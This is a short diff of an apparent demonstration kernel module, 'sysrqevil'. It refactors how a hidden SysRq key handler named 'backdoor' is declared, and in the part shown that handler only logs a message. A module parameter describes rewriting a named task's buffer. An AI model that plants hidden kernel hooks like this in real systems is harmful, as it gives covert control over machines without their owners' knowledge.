@@ -40,23 +40,17 @@ static char *comm = "";
 module_param(comm, charp, 0444);
 MODULE_PARM_DESC(comm, "task name whose buffer flip rewrites");
 
-/*
- * A SysRq key is a u8 since 6.6, an int before: the handler exists in both
- * forms and the prototype of handle_sysrq() picks one.
- */
-static void backdoor_u8(u8 k)
+#ifdef SYSRQEVIL_KEY_U8
+static void backdoor(u8 k)
+#else
+static void backdoor(int k)
+#endif
 {
 	pr_info("sysrqevil: the hidden key ran\n");
 }
 
-static void backdoor_int(int k)
-{
-	backdoor_u8(k);
-}
-
 static const struct sysrq_key_op backdoor_op = {
-	.handler = __builtin_choose_expr(__same_type(handle_sysrq, void (u8)),
-					 backdoor_u8, backdoor_int),
+	.handler = backdoor,
 	.help_msg = "backdoor(y)",
 	.action_msg = "Backdoor",
 	.enable_mask = SYSRQ_ENABLE_BOOT,
